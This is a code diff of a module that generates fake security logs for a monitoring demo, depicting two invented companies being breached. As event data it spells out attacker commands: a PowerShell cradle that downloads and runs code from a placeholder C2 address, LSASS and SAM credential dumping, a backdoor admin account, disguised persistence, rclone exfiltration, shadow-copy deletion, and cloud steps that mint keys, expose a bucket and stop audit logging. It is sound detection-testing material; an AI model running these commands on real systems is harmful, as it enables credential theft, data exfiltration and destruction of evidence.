@@ -1,7 +1,7 @@
 """The demo's storyline: two customers, one bad hour each, in the middle of an ordinary day.
 
-Nordwind Logistik: a mail attachment opens PowerShell, passwords are dumped, freight papers leave by rclone, and the
-thief goes on in the cloud with a stolen key. Halden Klinikk: passwords are guessed against a terminal server, and
+Nordkai Logistik: a mail attachment opens PowerShell, passwords are dumped, freight papers leave by rclone, and the
+thief goes on in the cloud with a stolen key. Brightwell Clinics: passwords are guessed against a terminal server, and
 the root account of its cloud switches the audit trail off. All names, addresses and people are invented; addresses
 are from the blocks that RFC 5737 keeps for documentation.
 """
@@ -17,34 +17,64 @@ import msgspec
 from watchfloor.ops.demo.noise import cloud_noise, nxlog_noise, windows_noise
 from watchfloor.ops.demo.wire import Caller, Document, Machine, cloudtrail, nxlog_security, process, security, sysmon
 
-NORDWIND: Final = "nordwind"
-HALDEN: Final = "halden"
+NORDKAI: Final = "nordkai"
+BRIGHTWELL: Final = "brightwell"
 MINUTES: Final = 60
 
 _POWERSHELL: Final = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-_CMD: Final = "C:\\Windows\\System32\\cmd.exe"
+_SYSTEM: Final = "C:\\Windows\\System32\\"
+_CMD: Final = f"{_SYSTEM}cmd.exe"
 _WINWORD: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
 _C2: Final = "203.0.113.66"
 _THIEF_AGENT: Final = "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.6.9-kali1-amd64 lang/python#3.11.8"
 _BROWSER: Final = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/128.0.0.0 Safari/537.36"
 
-_PETERSEN: Final = "NORDWIND\\l.petersen"
-_WS17: Final = Machine(name="NW-WS-017", domain="nordwind.example", address="10.20.3.17")
-_FILES: Final = Machine(name="NW-FS-01", domain="nordwind.example", address="10.20.1.11")
-_NORDWIND_MACHINES: Final = (
-    *(Machine(name=f"NW-WS-{n:03d}", domain="nordwind.example", address=f"10.20.3.{n}") for n in range(21, 29)),
+_PETERSEN: Final = "NORDKAI\\l.petersen"
+_WS17: Final = Machine(name="NK-WS-017", domain="nordkai.example", address="10.20.3.17")
+_FILES: Final = Machine(name="NK-FS-01", domain="nordkai.example", address="10.20.1.11")
+
+
+def _encoded(script: str) -> str:
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+_CRADLE: Final = f"IEX (New-Object Net.WebClient).DownloadString('http://{_C2}/a')"
+_COMMANDS: Final = (
+    (12.0, _POWERSHELL, f"-nop -w hidden -enc {_encoded(_CRADLE)}", _WINWORD),
+    (19.0, f"{_SYSTEM}rundll32.exe", f"{_SYSTEM}comsvcs.dll, MiniDump 712 C:\\ProgramData\\o.dmp full", _POWERSHELL),
+    (22.0, f"{_SYSTEM}reg.exe", "save HKLM\\SAM C:\\ProgramData\\s.hiv", _POWERSHELL),
+    (24.0, f"{_SYSTEM}net.exe", "user wartung Sommer-2026! /add", _CMD),
+    (24.2, f"{_SYSTEM}net.exe", "localgroup Administratoren wartung /add", _CMD),
+    (
+        26.0,
+        f"{_SYSTEM}schtasks.exe",
+        '/create /sc hourly /tn "OneDrive Sync" /tr "powershell -w hidden -f C:\\ProgramData\\s.ps1"',
+        _CMD,
+    ),
+    (
+        41.0,
+        "C:\\ProgramData\\rclone.exe",
+        "copy \\\\NK-FS-01\\freight remote:nk --config C:\\ProgramData\\r.conf",
+        _CMD,
+    ),
+    (52.0, f"{_SYSTEM}vssadmin.exe", "delete shadows /all /quiet", _CMD),
+)
+"""Minute, program, arguments and parent of what runs on the workstation."""
+
+_NORDKAI_MACHINES: Final = (
+    *(Machine(name=f"NK-WS-{n:03d}", domain="nordkai.example", address=f"10.20.3.{n}") for n in range(21, 29)),
     _FILES,
 )
-_NORDWIND_USERS: Final = ("NORDWIND\\a.brandt", "NORDWIND\\j.hansen", "NORDWIND\\m.kaya", "NORDWIND\\s.lorenz")
+_NORDKAI_USERS: Final = ("NORDKAI\\a.brandt", "NORDKAI\\j.hansen", "NORDKAI\\m.kaya", "NORDKAI\\s.lorenz")
 _TIMES: Final = ("@timestamp", "EventTime", "eventTime")
-_NORDWIND_ACCOUNT: Final = "210987654321"
+_NORDKAI_ACCOUNT: Final = "210987654321"
 
-_TS1: Final = Machine(name="HK-TS-01", domain="halden.example", address="10.40.1.5")
-_HALDEN_MACHINES: Final = tuple(
-    Machine(name=f"HK-PC-{n:02d}", domain="halden.example", address=f"10.40.2.{n}") for n in range(11, 17)
+_TS1: Final = Machine(name="BW-TS-01", domain="brightwell.example", address="10.40.1.5")
+_BRIGHTWELL_MACHINES: Final = tuple(
+    Machine(name=f"BW-PC-{n:02d}", domain="brightwell.example", address=f"10.40.2.{n}") for n in range(11, 17)
 )
-_HALDEN_USERS: Final = ("HALDEN\\i.solberg", "HALDEN\\k.berg", "HALDEN\\t.moen")
-_HALDEN_ACCOUNT: Final = "345678901234"
+_BRIGHTWELL_USERS: Final = ("BRIGHTWELL\\a.kelly", "BRIGHTWELL\\s.walsh", "BRIGHTWELL\\n.byrne")
+_BRIGHTWELL_ACCOUNT: Final = "345678901234"
 
 
 class Delivery(msgspec.Struct, frozen=True, kw_only=True):
@@ -60,37 +90,37 @@ def storyline(end: datetime) -> list[Delivery]:
     start = end - timedelta(minutes=MINUTES)
     return [
         Delivery(
-            tenant=NORDWIND,
-            feed="workstations",
+            tenant=NORDKAI,
+            feed="windows",
             documents=_in_order(
-                windows_noise(_NORDWIND_MACHINES, _NORDWIND_USERS, start=start, minutes=MINUTES, count=2400, seed=11),
-                _nordwind_endpoint(start),
+                windows_noise(_NORDKAI_MACHINES, _NORDKAI_USERS, start=start, minutes=MINUTES, count=2400, seed=11),
+                _nordkai_endpoint(start),
             ),
         ),
         Delivery(
-            tenant=NORDWIND,
-            feed="aws",
+            tenant=NORDKAI,
+            feed="cloudtrail",
             documents=_in_order(
                 cloud_noise(
-                    _NORDWIND_ACCOUNT, ("deploy", "monitoring"), start=start, minutes=MINUTES, count=600, seed=12
+                    _NORDKAI_ACCOUNT, ("deploy", "monitoring"), start=start, minutes=MINUTES, count=600, seed=12
                 ),
-                _nordwind_cloud(start),
+                _nordkai_cloud(start),
             ),
         ),
         Delivery(
-            tenant=HALDEN,
+            tenant=BRIGHTWELL,
             feed="servers",
             documents=_in_order(
-                nxlog_noise(_HALDEN_MACHINES, _HALDEN_USERS, start=start, minutes=MINUTES, count=700, seed=13),
-                _halden_server(start),
+                nxlog_noise(_BRIGHTWELL_MACHINES, _BRIGHTWELL_USERS, start=start, minutes=MINUTES, count=700, seed=13),
+                _brightwell_server(start),
             ),
         ),
         Delivery(
-            tenant=HALDEN,
-            feed="aws",
+            tenant=BRIGHTWELL,
+            feed="cloudtrail",
             documents=_in_order(
-                cloud_noise(_HALDEN_ACCOUNT, ("backup", "pacs"), start=start, minutes=MINUTES, count=300, seed=14),
-                _halden_cloud(start),
+                cloud_noise(_BRIGHTWELL_ACCOUNT, ("backup", "pacs"), start=start, minutes=MINUTES, count=300, seed=14),
+                _brightwell_cloud(start),
             ),
         ),
     ]
@@ -103,64 +133,24 @@ def _in_order(*sources: Iterator[Document]) -> list[Document]:
     )
 
 
-def _encoded(script: str) -> str:
-    return base64.b64encode(script.encode("utf-16-le")).decode()
-
-
-def _nordwind_endpoint(start: datetime) -> Iterator[Document]:
+def _nordkai_endpoint(start: datetime) -> Iterator[Document]:
     """Foothold, credential dumping, persistence, theft of freight papers, and the attempt to wipe the traces."""
-    cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{_C2}/a')"
-    steps = (
-        (
-            12.0,
-            f'"{_POWERSHELL}" -nop -w hidden -enc {_encoded(cradle)}',
-            _POWERSHELL,
-            _WINWORD,
-            "/n Frachtrechnung_4471.docm",
-        ),
-        (
-            19.0,
-            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\o.dmp full",
-            "C:\\Windows\\System32\\rundll32.exe",
-            _POWERSHELL,
-            "powershell",
-        ),
-        (
-            22.0,
-            "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv",
-            "C:\\Windows\\System32\\reg.exe",
-            _POWERSHELL,
-            "powershell",
-        ),
-        (24.0, "net.exe user wartung Sommer-2026! /add", "C:\\Windows\\System32\\net.exe", _CMD, "cmd.exe"),
-        (24.2, "net.exe localgroup Administratoren wartung /add", "C:\\Windows\\System32\\net.exe", _CMD, "cmd.exe"),
-        (
-            26.0,
-            'schtasks.exe /create /sc hourly /tn "OneDrive Sync" /tr "powershell -w hidden -f C:\\ProgramData\\s.ps1"',
-            "C:\\Windows\\System32\\schtasks.exe",
-            _CMD,
-            "cmd.exe",
-        ),
-        (
-            41.0,
-            "C:\\ProgramData\\rclone.exe copy \\\\NW-FS-01\\freight remote:nw --config C:\\ProgramData\\r.conf",
-            "C:\\ProgramData\\rclone.exe",
-            _CMD,
-            "cmd.exe",
-        ),
-        (52.0, "vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\vssadmin.exe", _CMD, "cmd.exe"),
-    )
-    for record, (minute, command, image, parent, parent_command) in enumerate(steps, start=700_001):
+    for record, (minute, image, arguments, parent) in enumerate(_COMMANDS, start=700_001):
         yield process(
             _WS17,
             start + timedelta(minutes=minute),
             record,
             image=image,
-            command=command,
+            command=f'"{image}" {arguments}',
             parent=parent,
-            parent_command=f'"{parent}" {parent_command}',
+            parent_command=f'"{parent}"',
             user=_PETERSEN,
         )
+    yield from _nordkai_traces(start)
+
+
+def _nordkai_traces(start: datetime) -> Iterator[Document]:
+    """What else the machine notices of it: the connection, the opened memory, the emptied log."""
     yield sysmon(
         _WS17,
         start + timedelta(minutes=12.1),
@@ -196,13 +186,13 @@ def _nordwind_endpoint(start: datetime) -> Iterator[Document]:
         start + timedelta(minutes=53),
         700_103,
         event_id=1102,
-        data={"SubjectUserName": "l.petersen", "SubjectDomainName": "NORDWIND", "SubjectLogonId": "0x3e7a1"},
+        data={"SubjectUserName": "l.petersen", "SubjectDomainName": "NORDKAI", "SubjectLogonId": "0x3e7a1"},
     )
 
 
-def _nordwind_cloud(start: datetime) -> Iterator[Document]:
+def _nordkai_cloud(start: datetime) -> Iterator[Document]:
     """A key found on the workstation is used from outside: who am I, a second key, more rights, no more trail."""
-    thief = Caller(account=_NORDWIND_ACCOUNT, user="deploy", address=_C2, agent=_THIEF_AGENT)
+    thief = Caller(account=_NORDKAI_ACCOUNT, user="deploy", address=_C2, agent=_THIEF_AGENT)
     calls: tuple[tuple[float, str, str, Document], ...] = (
         (31.0, "sts.amazonaws.com", "GetCallerIdentity", {}),
         (32.0, "iam.amazonaws.com", "CreateAccessKey", {"userName": "backup-admin"}),
@@ -218,7 +208,7 @@ def _nordwind_cloud(start: datetime) -> Iterator[Document]:
             "s3.amazonaws.com",
             "PutBucketPolicy",
             {
-                "bucketName": "nordwind-freight",
+                "bucketName": "nordkai-freight",
                 "bucketPolicy": {
                     "Version": "2012-10-17",
                     "Statement": [
@@ -226,7 +216,7 @@ def _nordwind_cloud(start: datetime) -> Iterator[Document]:
                             "Effect": "Allow",
                             "Principal": "*",
                             "Action": "s3:GetObject",
-                            "Resource": "arn:aws:s3:::nordwind-freight/*",
+                            "Resource": "arn:aws:s3:::nordkai-freight/*",
                         }
                     ],
                 },
@@ -239,10 +229,10 @@ def _nordwind_cloud(start: datetime) -> Iterator[Document]:
         yield cloudtrail(at, thief, source=source, name=name, parameters=parameters)
 
 
-def _halden_server(start: datetime) -> Iterator[Document]:
+def _brightwell_server(start: datetime) -> Iterator[Document]:
     """Passwords are guessed until one fits; then a service is installed and an account made."""
     logon = {
-        "TargetDomainName": "HALDEN",
+        "TargetDomainName": "BRIGHTWELL",
         "LogonType": "10",
         "LogonProcessName": "User32 ",
         "AuthenticationPackageName": "Negotiate",
@@ -259,7 +249,7 @@ def _halden_server(start: datetime) -> Iterator[Document]:
             data={"TargetUserName": "administrator", "Status": "0xC000006D", "SubStatus": "0xC000006A", **logon},
         )
     yield nxlog_security(
-        _TS1, start + timedelta(minutes=17), 800_101, event_id=4624, data={"TargetUserName": "k.berg", **logon}
+        _TS1, start + timedelta(minutes=17), 800_101, event_id=4624, data={"TargetUserName": "s.walsh", **logon}
     )
     yield nxlog_security(
         _TS1,
@@ -267,10 +257,10 @@ def _halden_server(start: datetime) -> Iterator[Document]:
         800_102,
         event_id=4720,
         data={
-            "SubjectUserName": "k.berg",
-            "SubjectDomainName": "HALDEN",
+            "SubjectUserName": "s.walsh",
+            "SubjectDomainName": "BRIGHTWELL",
             "TargetUserName": "svc_update",
-            "TargetDomainName": "HK-TS-01",
+            "TargetDomainName": "BW-TS-01",
         },
     )
     yield nxlog_security(
@@ -279,8 +269,8 @@ def _halden_server(start: datetime) -> Iterator[Document]:
         800_103,
         event_id=4732,
         data={
-            "SubjectUserName": "k.berg",
-            "SubjectDomainName": "HALDEN",
+            "SubjectUserName": "s.walsh",
+            "SubjectDomainName": "BRIGHTWELL",
             "MemberName": "-",
             "MemberSid": "S-1-5-21-1004336348-1177238915-682003330-1105",
             "TargetUserName": "Administrators",
@@ -290,9 +280,9 @@ def _halden_server(start: datetime) -> Iterator[Document]:
     )
 
 
-def _halden_cloud(start: datetime) -> Iterator[Document]:
+def _brightwell_cloud(start: datetime) -> Iterator[Document]:
     """The root account signs in without a second factor and stops the trail."""
-    root = Caller(account=_HALDEN_ACCOUNT, user="root", address="198.51.100.23", agent=_BROWSER)
+    root = Caller(account=_BRIGHTWELL_ACCOUNT, user="root", address="198.51.100.23", agent=_BROWSER)
     yield cloudtrail(
         start + timedelta(minutes=35),
         root,
@@ -305,5 +295,5 @@ def _halden_cloud(start: datetime) -> Iterator[Document]:
         root,
         source="cloudtrail.amazonaws.com",
         name="StopLogging",
-        parameters={"name": "klinikk-trail"},
+        parameters={"name": "clinic-trail"},
     )
